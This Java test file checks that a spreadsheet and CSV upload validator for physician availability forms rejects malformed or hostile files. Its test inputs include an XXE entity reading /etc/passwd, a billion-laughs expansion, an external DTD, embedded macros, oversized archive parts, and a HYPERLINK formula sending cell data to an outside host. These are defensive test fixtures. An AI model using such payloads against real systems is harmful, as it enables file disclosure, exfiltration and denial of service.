package org.zhishou.service.exchange.workbook;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.function.Consumer;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.zhishou.service.platform.web.ProblemException;

/** Files as they should not be, each with what is said of it. */
class BrokenFilesTest {
  static final byte[] FORM =
      new AvailabilityForm(Forms.form(), Locale.SIMPLIFIED_CHINESE).workbook();
  static final byte[] CSV = new AvailabilityForm(Forms.form(), Locale.SIMPLIFIED_CHINESE).csv();
  static final String SHEET = "xl/worksheets/sheet2.xml";

  static byte[] changed(Consumer<XSSFWorkbook> hand) {
    try (var workbook = new XSSFWorkbook(new ByteArrayInputStream(FORM))) {
      hand.accept(workbook);
      return Forms.bytes(workbook);
    } catch (IOException impossible) {
      throw new UncheckedIOException(impossible);
    }
  }

  static byte[] cell(int row, int column, String text) {
    return changed(workbook -> AvailabilityFormTest.at(workbook, row, column).setCellValue(text));
  }

  static byte[] limit(int row, int column, String text) {
    return changed(
        workbook -> workbook.getSheet("每周规律与限额").getRow(row).getCell(column).setCellValue(text));
  }

  static byte[] csv(UnaryOperator<String> hand) {
    return hand.apply(new String(CSV, UTF_8).substring(1)).getBytes(UTF_8);
  }

  /** The form's parts, some of them replaced or added. */
  static byte[] zipped(Map<String, byte[]> parts) {
    try (var in = new ZipInputStream(new ByteArrayInputStream(FORM))) {
      var all = new HashMap<String, byte[]>();
      for (var entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
        all.put(entry.getName(), in.readAllBytes());
      }
      all.putAll(parts);
      return archive(all);
    } catch (IOException impossible) {
      throw new UncheckedIOException(impossible);
    }
  }

  static byte[] archive(Map<String, byte[]> parts) throws IOException {
    var bytes = new ByteArrayOutputStream();
    try (var zip = new ZipOutputStream(bytes)) {
      for (var part : parts.entrySet()) {
        zip.putNextEntry(new ZipEntry(part.getKey()));
        zip.write(part.getValue());
        zip.closeEntry();
      }
    }
    return bytes.toByteArray();
  }

  static String sheet(String rows) {
    return "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>"
        + rows
        + "</sheetData></worksheet>";
  }

  static byte[] withSheet(String xml) {
    return zipped(Map.of(SHEET, xml.getBytes(UTF_8)));
  }

  static byte[] many(String name, int count) {
    var parts = new HashMap<String, byte[]>();
    for (var number = 0; number < count; number++) {
      parts.put(name + number, new byte[0]);
    }
    return zipped(parts);
  }

  static byte[] bytes(int... values) {
    var bytes = new byte[values.length];
    for (var index = 0; index < values.length; index++) {
      bytes[index] = (byte) values[index];
    }
    return bytes;
  }

  static Stream<Arguments> unreadable() throws IOException {
    return Stream.of(
        Arguments.of("an empty file", new byte[0], "empty"),
        Arguments.of("an old .xls", bytes(0xD0, 0xCF, 0x11, 0xE0, 0xA1), "old-or-locked"),
        Arguments.of("half an archive", Arrays.copyOf(FORM, FORM.length / 2), "broken,broken-part"),
        Arguments.of("an archive of nothing", bytes('P', 'K', 5, 6), "no-workbook"),
        Arguments.of("PK and noise", "PK\3\4 and what follows is noise".getBytes(UTF_8), "broken"),
        Arguments.of(
            "some other archive", archive(Map.of("readme.txt", new byte[10])), "no-workbook"),
        Arguments.of(
            "a .docx", archive(Map.of("word/document.xml", "<a/>".getBytes(UTF_8))), "no-workbook"),
        Arguments.of("macros", zipped(Map.of("xl/vbaProject.bin", new byte[10])), "macros"),
        Arguments.of("2,500 parts", many("xl/media/image", 2500), "too-many-parts"),
        Arguments.of(
            "a part of 100 MB of zeros",
            zipped(Map.of("xl/media/a.bin", new byte[100 << 20])),
            "expands"),
        Arguments.of("5 MB of blanks in a sheet", withSheet(sheet(" ".repeat(5 << 20))), "expands"),
        Arguments.of(
            "ten million rows",
            withSheet(sheet("<row r=\"1\"/>".repeat(1_600_000))),
            "expands,too-many-cells"),
        Arguments.of(
            "a document type",
            withSheet("<!DOCTYPE worksheet [<!ENTITY a \"b\">]>" + sheet("")),
            "entities"),
        Arguments.of(
            "an entity of the machine",
            withSheet(
                "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>" + sheet("<c>&a;</c>")),
            "entities"),
        Arguments.of(
            "a billion laughs",
            withSheet(
                "<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\">]>" + sheet("<c>&b;</c>")),
            "entities"),
        Arguments.of(
            "an entity from elsewhere",
            zipped(
                Map.of(
                    "docProps/core.xml",
                    "<!DOCTYPE x SYSTEM \"http://example.cn/x.dtd\"><x/>".getBytes(UTF_8))),
            "entities"),
        Arguments.of(
            "a sheet cut off", withSheet("<worksheet><sheetData><row r=\"1\">"), "broken-part"),
        Arguments.of("a sheet that is no XML", withSheet("no XML at all"), "broken-part"),
        Arguments.of(
            "no list of sheets",
            zipped(Map.of("xl/workbook.xml", "<a/>".getBytes(UTF_8))),
            "broken"),
        Arguments.of(
            "a row far down",
            withSheet(sheet("<row r=\"1048576\"><c r=\"A1048576\" t=\"n\"><v>1</v></c></row>")),
            "too-many-rows"),
        Arguments.of(
            "a column far out",
            withSheet(sheet("<row r=\"1\"><c r=\"XFD1\" t=\"n\"><v>1</v></c></row>")),
            "too-many-columns"),
        Arguments.of("more than 8 MB", new byte[(8 << 20) + 1], "too-large"),
        Arguments.of("a picture", bytes(0x89, 'P', 'N', 'G', 0, 0, 0xFF, 0xFF), "encoding"),
        Arguments.of("zeros", new byte[100], "encoding"),
        Arguments.of("UTF-8 by its mark, and not", bytes(0xEF, 0xBB, 0xBF, 0xC3, 0x28), "encoding"),
        Arguments.of("neither UTF-8 nor GB18030", bytes(0x81, 0x20, 0xFF, 0xFF), "encoding"),
        Arguments.of("half of UTF-16", bytes(0xFF, 0xFE, 0x41, 0x00, 0x42), "encoding"),
        Arguments.of("UTF-32", "编号".getBytes(Charset.forName("UTF-32BE")), "encoding"),
        Arguments.of("a quotation mark too few", "编号,\"姓名\n1,2".getBytes(UTF_8), "csv"),
        Arguments.of("text behind a quotation", "\"a\"b,c\n1,2".getBytes(UTF_8), "csv"),
        Arguments.of("30,000 lines", "a,b\n".repeat(30_000).getBytes(UTF_8), "too-many-rows"),
        Arguments.of("500 columns", ",".repeat(500).getBytes(UTF_8), "too-many-columns"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource
  void unreadable(String what, byte[] file, String codes) {
    assertThatThrownBy(() -> Upload.of(file))
        .isInstanceOfSatisfying(
            ProblemException.class, problem -> assertThat(codes.split(",")).contains(key(problem)));
  }

  /** The only error's code. */
  static String key(ProblemException problem) {
    return problem.errors(Locale.ENGLISH).getFirst().code();
  }

  static Stream<Arguments> refused() {
    return Stream.of(
        Arguments.of("an unknown code", cell(5, 4, "出差"), List.of("E6 code-unknown")),
        Arguments.of("a code and more", cell(5, 4, "休息日"), List.of("E6 code-unknown")),
        Arguments.of("a number", cell(5, 4, "1"), List.of("E6 code-unknown")),
        Arguments.of("a question mark", cell(5, 4, "休?"), List.of("E6 code-unknown")),
        Arguments.of(
            "three wrong cells",
            threeWrong(),
            List.of("E6 code-unknown", "F7 code-unknown", "G8 code-unknown")),
        Arguments.of("a formula", formula("\"休\""), List.of("E6 formula")),
        Arguments.of(
            "a formula that calls out",
            formula("HYPERLINK(\"http://example.cn/\"&A1)"),
            List.of("E6 formula")),
        Arguments.of("a formula that divides by zero", formula("1/0"), List.of("E6 formula")),
        Arguments.of("an id of nobody", cell(5, 0, "P77"), List.of("A6 id-unknown")),
        Arguments.of("an id of another", cell(5, 0, "P2"), List.of("A6 name-of-another")),
        Arguments.of("a name of another", cell(5, 1, "张三"), List.of("A6 name-of-another")),
        Arguments.of("no id and a name of two", cell(6, 0, ""), List.of("B7 name-not-one")),
        Arguments.of("neither id nor name", nobody(), List.of("A6 nobody")),
        Arguments.of("a physician twice", cell(7, 0, "P2"), List.of("A8 physician-twice")),
        Arguments.of(
            "a date twice", cell(3, 5, "9/28"), List.of("F5 date-twice", "A5 date-missing")),
        Arguments.of("a date that is none", cell(3, 4, "初一"), List.of("A5 date-missing")),
        Arguments.of(
            "a date outside with a code", outside(), List.of("A5 date-missing", "E6 date-outside")),
        Arguments.of("a column nobody knows", stranger(), List.of("AG6 column-unknown")),
        Arguments.of("cells merged over rows", merged(), List.of("E6 merged", "E7 merged")),
        Arguments.of("headings gone", headless(), List.of("A1 no-headings")),
        Arguments.of("weekdays that are none", limit(3, 4, "每天"), List.of("E4 weekdays-unknown")),
        Arguments.of("a clinic without a day", limit(3, 5, "上午"), List.of("F4 clinics-unknown")),
        Arguments.of("a clinic at noon", limit(3, 5, "二中午"), List.of("F4 clinics-unknown")),
        Arguments.of("half a day", limit(3, 6, "2.5"), List.of("G4 number-unknown")),
        Arguments.of("less than nothing", limit(3, 7, "-1"), List.of("H4 number-unknown")),
        Arguments.of("a number in words", limit(3, 8, "六十"), List.of("I4 number-unknown")),
        Arguments.of("a lunar date", limit(3, 10, "正月初一"), List.of("K4 dates-unknown")),
        Arguments.of("a range backwards", limit(3, 10, "10.12-10.8"), List.of("K4 dates-unknown")),
        Arguments.of(
            "one good range and one bad",
            limit(3, 10, "10.8-10.9；某日"),
            List.of("K4 dates-unknown")),
        Arguments.of(
            "a date with two codes", limit(3, 10, "2026-11-03 休训"), List.of("K4 dates-unknown")),
        Arguments.of(
            "CSV without headings", "P1,王建华,休\n".getBytes(UTF_8), List.of("A1 no-headings")),
        Arguments.of("CSV of one line", "编号,姓名\n".getBytes(UTF_8), List.of("A1 no-headings")),
        Arguments.of(
            "CSV with a wrong code",
            csv(text -> text.replaceFirst("全科,", "全科,差")),
            List.of("E2 code-unknown")),
        Arguments.of(
            "CSV with a column too many",
            csv(text -> text.replaceFirst("P1,", "P1,").replace("\r\nP2", ",多余\r\nP2")),
            List.of("AG2 column-unknown")),
        Arguments.of(
            "CSV in GB18030 with a wrong code",
            new String(CSV, UTF_8)
                .substring(1)
                .replaceFirst("全科,", "全科,差")
                .getBytes(Charset.forName("GB18030")),
            List.of("E2 code-unknown")));
  }

  static byte[] threeWrong() {
    return changed(
        workbook -> {
          AvailabilityFormTest.at(workbook, 5, 4).setCellValue("甲");
          AvailabilityFormTest.at(workbook, 6, 5).setCellValue("乙");
          AvailabilityFormTest.at(workbook, 7, 6).setCellValue("丙");
        });
  }

  static byte[] formula(String text) {
    return changed(workbook -> AvailabilityFormTest.at(workbook, 5, 4).setCellFormula(text));
  }

  static byte[] nobody() {
    return changed(
        workbook -> {
          AvailabilityFormTest.at(workbook, 5, 0).setBlank();
          AvailabilityFormTest.at(workbook, 5, 1).setBlank();
        });
  }

  static byte[] outside() {
    return changed(
        workbook -> {
          AvailabilityFormTest.at(workbook, 3, 4).setCellValue("2026-12-01");
          AvailabilityFormTest.at(workbook, 5, 4).setCellValue("休");
        });
  }

  static byte[] stranger() {
    return changed(
        workbook -> {
          var sheet = workbook.getSheet("日期");
          sheet.getRow(4).createCell(32).setCellValue("备注");
          sheet.getRow(5).createCell(32).setCellValue("外出");
        });
  }

  static byte[] merged() {
    return changed(
        workbook -> {
          AvailabilityFormTest.at(workbook, 5, 4).setCellValue("休");
          workbook.getSheet("日期").addMergedRegion(new CellRangeAddress(5, 6, 4, 4));
        });
  }

  static byte[] headless() {
    return changed(
        workbook -> {
          var names = new ArrayList<String>();
          workbook.forEach(sheet -> names.add(sheet.getSheetName()));
          for (var name : names) {
            for (var row : workbook.getSheet(name)) {
              if (row.getRowNum() < 5) {
                row.forEach(Cell::setBlank);
              }
            }
          }
        });
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource
  void refused(String what, byte[] file, List<String> expected) {
    var result = AvailabilityReading.of(Forms.form(), Upload.of(file).grids());
    assertThat(AvailabilityFormTest.refused(result)).containsExactlyElementsOf(expected);
    for (var refusal : result.refusals()) {
      for (var locale : List.of(Locale.SIMPLIFIED_CHINESE, Locale.ENGLISH)) {
        assertThat(refusal.message(locale)).isNotBlank().doesNotContain("{");
      }
    }
  }
}
